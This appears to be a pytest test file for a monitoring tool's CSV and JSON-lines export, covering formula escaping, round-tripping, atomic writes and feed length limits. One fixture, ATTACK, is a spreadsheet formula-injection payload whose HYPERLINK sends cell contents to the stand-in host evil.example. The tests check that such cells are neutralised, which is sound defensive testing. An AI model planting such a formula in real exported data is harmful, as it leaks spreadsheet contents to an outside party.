"""What the export commands write: cells that no spreadsheet computes, whole files."""

import csv
import io
import json
from pathlib import Path

import pytest

from monitor.cli.exported import as_csv, as_jsonl, harmless, most, write
from monitor.cli.output import Listing

LISTING: Listing[tuple[str, float]] = Listing(
    fields=[("name", lambda i: i[0]), ("sum", lambda i: i[1])],
    headings=(),
    cells=lambda _: (),
    record=lambda i: {"name": i[0], "sum": i[1]},
)
ATTACK = '=HYPERLINK("https://evil.example/?"&A1,"open")'


@pytest.mark.fault(no=46)
@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "\t=", "\r=", " =", "\uff1d"])
def test_what_begins_like_a_formula_is_text(sign: str) -> None:
    """If it fails, a headline runs as a formula on the machine of whoever opens it."""
    cell = harmless(f"{sign}1+1")

    assert isinstance(cell, str)
    assert cell.startswith("'")


def test_a_number_stays_a_number() -> None:
    """If it fails, a column of changes cannot be summed."""
    assert harmless(-1.5) == -1.5
    assert harmless(None) == ""
    assert harmless(("Dy", "Tb")) == "Dy,Tb"


@pytest.mark.fault(no=46)
def test_a_table_is_read_back_as_it_was() -> None:
    """If it fails, a comma or a quotation mark moves a headline into the next column."""
    rows = [('said, "no"\nthen', 0.5), (ATTACK, 2)]

    read = list(csv.reader(io.StringIO(as_csv(rows, LISTING), newline="")))

    assert read == [
        ["name", "sum"],
        ['said, "no" then', "0.5"],
        [f"'{ATTACK}", "2"],
    ]


def test_each_line_of_json_is_one_thing() -> None:
    """If it fails, a program that reads line by line stops at the first."""
    text = as_jsonl([("a\u2028b\nc", 1.0), ("d", 2.0)], LISTING)

    assert [json.loads(line) for line in text.rstrip("\n").split("\n")] == [
        {"name": "a\u2028b\nc", "sum": 1.0},
        {"name": "d", "sum": 2.0},
    ]


def test_a_file_is_replaced_as_a_whole(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """If it fails, a reader meets half a table."""
    out = tmp_path / "told.csv"
    out.write_text("old", encoding="utf-8")

    write(b"new", out, said="3 events")

    assert out.read_bytes() == b"new"
    assert [p.name for p in tmp_path.iterdir()] == ["told.csv"]
    assert capsys.readouterr().err == f"3 events written: {out}\n"


def test_a_feed_is_short_and_a_table_is_long() -> None:
    """If it fails, a feed reader is sent ten thousand entries, or a table is cut."""
    assert most(None, "atom") < most(None, "csv")
    assert most(7, "atom") == 7
